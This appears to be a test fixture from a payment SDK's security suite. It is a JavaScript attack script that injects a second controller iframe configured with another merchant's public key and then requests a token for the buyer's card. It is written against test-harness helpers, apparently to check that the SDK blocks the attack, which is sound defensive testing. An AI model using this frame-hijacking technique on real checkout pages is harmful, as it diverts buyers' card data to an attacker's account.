// Attack, after mount: add a second, genuine controller frame for the SDK's instance, configured
// with another merchant's public key, so the buyer's card would be tokenized into that account.
(function () {
  window.__whenReady(function () {
    var instance = window.__frameParams(document.querySelector('iframe.payjp-controller')).get('instance');
    var group = window.__frameParams(document.querySelector('iframe.payjp-frame')).get('group');
    var apiBase = document.querySelector('script[data-api-base]').dataset.apiBase;
    window.__genuineFrame({ mode: 'controller', instance: instance }, { config: { publicKey: 'pk_test_ffffffffffffffffffffffff', apiBase: apiBase } }, function (port) {
      window.__attackReady = true;
      // Once the buyer has typed, ask our controller for a token of the card.
      setTimeout(function () { port.postMessage({ t: 'token', id: 1, group: group, options: {} }); }, 6000);
    });
  });
})();
